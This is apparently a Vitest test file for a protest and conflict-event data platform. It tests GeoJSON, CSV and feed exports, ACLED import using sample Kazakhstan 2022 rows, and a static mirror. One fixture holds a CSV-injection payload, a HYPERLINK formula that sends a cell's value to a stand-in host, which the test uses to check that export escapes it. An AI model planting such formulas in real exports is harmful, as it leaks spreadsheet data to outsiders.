import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { check, getIssues } from '@placemarkio/check-geojson';
import { parseFeed } from '@rowanmanning/feed-parser';
import { parseJsonFeed } from 'feedsmith';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CodedEventContent } from '../../src/core/content.js';
import { publishBrief } from '../../src/desk/publish-brief.js';
import { ACLED_COLUMNS } from '../../src/situation/acled.js';
import { situationBrief } from '../../src/situation/brief.js';
import { parseCsv } from '../../src/situation/csv.js';
import { exportEventsText, publishedEvents } from '../../src/situation/export.js';
import { importAcled } from '../../src/situation/import-acled.js';
import { type MirrorManifest, writeMirror } from '../../src/situation/mirror.js';
import { querySituation } from '../../src/situation/query.js';
import {
  buildDeskArticle,
  buildDeskCodedEvent,
  startTestNode,
  type TestNode,
  tempDir,
} from '../support/node.js';
import { randomCodedEvent, rng } from './factories.js';

/** A few rows in the column set of a real ACLED export (2024 format: inter codes as words). */
const ACLED_SAMPLE = [
  'event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,country,admin1,admin2,admin3,location,latitude,longitude,geo_precision,source,source_scale,notes,fatalities,tags,timestamp',
  'KAZ1001,04 January 2022,2022,1,Demonstrations,Protests,Peaceful protest,Protesters (Kazakhstan),Labor Group (Kazakhstan); Oil Workers (Kazakhstan),Protesters,,,,Protesters only,,398,Caucasus and Central Asia,Kazakhstan,Mangystau,Zhanaozen,,Zhanaozen,43.3412,52.8619,1,Radio Azattyq; Vlast.kz,National,"On 4 January 2022, about 1,000 oil workers and residents rallied in Zhanaozen against the LPG price rise.",0,crowd size=around 1000,1642000000',
  'KAZ1002,2022-01-05,2022,1,Political violence,Riots,Violent demonstration,Rioters (Kazakhstan),,5,Police Forces of Kazakhstan (2019-),,1,15,,398,Caucasus and Central Asia,Kazakhstan,Almaty,Almaty,,Almaty,43.25,76.95,1,Reuters,International,"Rioters set fire to the akimat building, police used stun grenades.",2,,1642000000',
  'KAZ1003,06-January-2022,2022,1,Strategic developments,Strategic developments,Looting/property destruction,Rioters (Kazakhstan),,5,,,,50,,398,Caucasus and Central Asia,Kazakhstan,Almaty,Almaty,,Almaty,43.25,76.95,1,Reuters,International,Shops looted.,0,,1642000000',
  'KAZ1004,07 January 2022,2022,1,Strategic developments,Strategic developments,Arrests,Police Forces of Kazakhstan (2019-),,1,Protesters (Kazakhstan),,6,16,,398,Caucasus and Central Asia,Kazakhstan,Karaganda,,,Karaganda,49.8,73.1,3,KazTAG,National,Police detained protesters.,0,,1642000000',
  'KAZ1005,not a date,2022,1,Demonstrations,Protests,Peaceful protest,Protesters (Kazakhstan),,6,,,,60,,398,,Kazakhstan,Almaty,,,Almaty,43.25,76.95,1,X,National,,0,,1642000000',
].join('\n');

describe('exports, feeds, ACLED import and the mirror', () => {
  let a: TestNode;
  let b: TestNode;
  const events: CodedEventContent[] = [];

  beforeAll(async () => {
    [a, b] = await Promise.all([startTestNode(), startTestNode()]);
    const r = rng(3);
    for (let i = 0; i < 40; i++) {
      const e = randomCodedEvent(r, `x-${i}`);
      events.push(
        i % 5 === 0
          ? {
              ...e,
              notes: 'Quoted "text", with commas,\nand a line break',
              sources: [
                { name: 'Radio Azattyq', url: 'https://rus.azattyq.org/a/1.html', date: '2022-01-05' },
              ],
              related_events: ['x-1'],
              injured: 3,
              location: { ...e.location, geonames_id: 609_404 },
            }
          : i % 5 === 1
            ? // Text a spreadsheet would run as a formula (CSV injection).
              { ...e, notes: '=HYPERLINK("http://x.example/?"&A1,"open") +1', sources: [{ name: '@handle' }] }
            : e,
      );
    }
    const answers = await a.node.ingest.submit(events.map((e) => buildDeskCodedEvent(a.deskKey!, e)));
    expect(answers.every((x) => x.ok)).toBe(true);
    await a.node.ingest.submit([
      buildDeskArticle(a.deskKey!, { id: 'news-1', type: 'news', title: 'Strike at the <mine> & "depot"' }),
      buildDeskArticle(a.deskKey!, { id: 'material-1', type: 'material', title: 'How to form a union' }),
    ]);
    await publishBrief(
      a.node,
      { lang: 'ru', actor: 'test' },
      situationBrief(a.node.db, { lang: 'ru', from: '2022-01-01', to: '2022-01-31' }),
    );
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
  });

  it('exports GeoJSON that passes check-geojson, one Feature per event', async () => {
    const res = await fetch(`${a.url}/api/v1/export/events.geojson`);
    expect(res.headers.get('content-type')).toMatch(/application\/geo\+json/);
    const text = await res.text();
    expect(getIssues(text)).toEqual([]);
    const fc = check(text) as {
      features: { id: string; geometry: unknown; properties: Record<string, unknown> }[];
    };
    expect(fc.features.map((f) => f.id).sort()).toEqual(events.map((e) => e.id).sort());
    const located = fc.features.find((f) => f.geometry !== null);
    expect(located?.properties).toHaveProperty('event_type');
  });

  it('exports CSV with ACLED columns first, and it round-trips through import acled', async () => {
    const res = await fetch(`${a.url}/api/v1/export/events.csv`);
    const csv = await res.text();
    const rows = parseCsv(csv);
    expect(rows[0]?.slice(0, ACLED_COLUMNS.length)).toEqual([...ACLED_COLUMNS]);
    expect(rows.length).toBe(events.length + 1);
    // Formula text is written with an apostrophe in front, and read back without it.
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""open"") +1"`);
    expect(csv).toContain(`'@handle`);
    expect(rows.some((r) => r.includes('@handle'))).toBe(true);
    for (const row of csv.split('\r\n')) expect(row).not.toMatch(/(^|,)"?[=@]/);

    const result = await importAcled(b.node, csv);
    expect(result).toMatchObject({ stored: events.length, updated: 0, unchanged: 0, skipped: [] });
    expect(exportEventsText(b.node.db, 'acled-csv')).toBe(csv);
    expect([...publishedEvents(b.node.db)]).toEqual([...publishedEvents(a.node.db)]);
    // Twice: nothing changes.
    expect(await importAcled(b.node, csv)).toMatchObject({ stored: 0, updated: 0, unchanged: events.length });
    const { latest: _a, ...fromA } = querySituation(a.node.db);
    const { latest: _b, ...fromB } = querySituation(b.node.db);
    expect(fromB).toEqual(fromA);
  });

  it('reads a real ACLED export: maps types (or a stated fallback) and inter codes, keeps the rest, skips what is not a date', async () => {
    const result = await importAcled(b.node, ACLED_SAMPLE);
    expect(result.stored).toBe(4);
    expect(result.skipped.map((s) => [s.line, s.id])).toEqual([[6, 'KAZ1005']]);
    const byId = new Map([...publishedEvents(b.node.db)].map((e) => [e.id, e]));
    const rally = byId.get('KAZ1001');
    expect(rally).toMatchObject({
      event_type: 'protest',
      sub_event_type: 'peaceful_protest',
      date: '2022-01-04',
      size: { low: 1000, high: null, text: 'around 1000' },
      location: { settlement: 'Zhanaozen', admin1: 'Mangystau Region', lat: 43.3412, lon: 52.8619 },
    });
    expect(rally?.actors.map((x) => x.role)).toEqual(['residents', 'workers', 'workers']);
    expect(rally?.notes).toContain('"admin2":"Zhanaozen"');
    expect(byId.get('KAZ1003')).toMatchObject({
      event_type: 'riot',
      sub_event_type: 'violent_demonstration',
    });
    expect(rally?.sources).toEqual([{ name: 'Radio Azattyq' }, { name: 'Vlast.kz' }]);
    expect(byId.get('KAZ1002')).toMatchObject({ event_type: 'riot', fatalities: 2 });
    expect(byId.get('KAZ1002')?.actors.map((x) => x.role)).toEqual(['rioters', 'state_forces']);
    expect(byId.get('KAZ1004')).toMatchObject({ event_type: 'state_measure', sub_event_type: 'arrests' });
    await expect(importAcled(b.node, 'name,age\nx,1\n')).rejects.toMatchObject({ code: 'invalid_csv' });
  });

  it('serves news and briefs as Atom and JSON Feed that independent parsers read', async () => {
    const atom = await fetch(`${a.url}/feed.atom`);
    expect(atom.headers.get('content-type')).toMatch(/application\/atom\+xml/);
    const feed = parseFeed(await atom.text());
    const titles = feed.items.map((i) => i.title);
    expect(titles).toContain('Strike at the <mine> & "depot"');
    expect(titles.some((t) => t?.startsWith('Сводка о ситуации'))).toBe(true);
    expect(titles).not.toContain('How to form a union');
    const json = parseJsonFeed(await (await fetch(`${a.url}/feed.json`)).text());
    expect(json.items?.map((i) => i.title).sort()).toEqual([...titles].sort());
    expect(json.items?.every((i) => i.id?.startsWith('urn:tilshi:'))).toBe(true);
  });

  it('writes a static mirror that holds the page data at the paths its manifest names', async () => {
    const out = tempDir('tilshi-mirror-');
    try {
      writeMirror(a.node, out.dir, { webRoot: join(out.dir, 'no-web') });
      const manifest = JSON.parse(readFileSync(join(out.dir, 'mirror.json'), 'utf8')) as MirrorManifest;
      expect(manifest.mirror).toBe(true);
      const all = JSON.parse(readFileSync(join(out.dir, manifest.situation.all), 'utf8'));
      expect(all).toEqual(JSON.parse(JSON.stringify(querySituation(a.node.db))));
      const variant = manifest.situation.variants.find(
        (v) => v.admin1 === 'Mangystau Region' && v.event_type === 'protest',
      );
      const one = JSON.parse(readFileSync(join(out.dir, variant!.path), 'utf8'));
      expect(one.totals.events).toBe(
        events.filter((e) => e.location.admin1 === 'Mangystau Region' && e.event_type === 'protest').length,
      );
      for (const path of [
        manifest.options,
        manifest.brief.ru,
        manifest.articles,
        manifest.exports.csv,
        manifest.exports.geojson,
        manifest.exports.jsonl,
        manifest.feeds.atom,
        manifest.feeds.json,
      ]) {
        expect(existsSync(join(out.dir, path)), path).toBe(true);
      }
      expect(getIssues(readFileSync(join(out.dir, manifest.exports.geojson), 'utf8'))).toEqual([]);
      expect(parseFeed(readFileSync(join(out.dir, manifest.feeds.atom), 'utf8')).items.length).toBe(2);
    } finally {
      out.remove();
    }
  });

  it('refuses bad export queries with stable codes', async () => {
    for (const [path, code] of [
      ['/api/v1/export/events.csv?since=2022-1-1', 'invalid_date'],
      ['/api/v1/export/events.geojson?format=kml', 'unknown_parameter'],
    ]) {
      const res = await fetch(`${a.url}${path}`);
      expect(res.status).toBe(400);
      expect((await res.json()).error.code).toBe(code);
    }
    const since = await (await fetch(`${a.url}/api/v1/export/events.jsonl?since=2022-02-01`)).text();
    const lines = since.trim().split('\n').filter(Boolean);
    expect(lines.length).toBe(events.filter((e) => e.date >= '2022-02-01').length);
    expect(JSON.parse(lines[0] as string)).toMatchObject({ kind: 30620, pubkey: a.deskKey!.publicKey });
  });
});
